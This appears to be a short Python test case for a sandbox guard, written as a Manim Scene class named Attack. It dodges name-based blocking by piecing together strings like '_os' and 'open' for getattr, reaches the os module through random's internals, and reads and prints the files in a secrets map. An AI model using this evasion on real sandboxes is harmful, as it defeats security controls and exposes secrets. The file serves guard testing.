"""Puts the name of what it may not name together from pieces, and takes it with getattr.

title: a guard that is talked round by pieces of names costs nothing
kind: guard
canary: the secrets in the files
quick: yes
"""
from functools import reduce
import random
from manim import Scene

HOST = {}
UNDER = "_" * 2

class Attack(Scene):
    def construct(self):
        inside = getattr(random.Random.random, "_" + "_self_" + "_", random)
        system = getattr(random, "_" + "os")
        read = getattr(system, "read")
        for path in HOST["secrets"].values():
            try:
                print(read(getattr(system, "op" + "en")(path, 0), 999))
            except OSError as error:
                print(error)
        print(reduce(getattr, [inside, f"{UNDER}class{UNDER}"]))
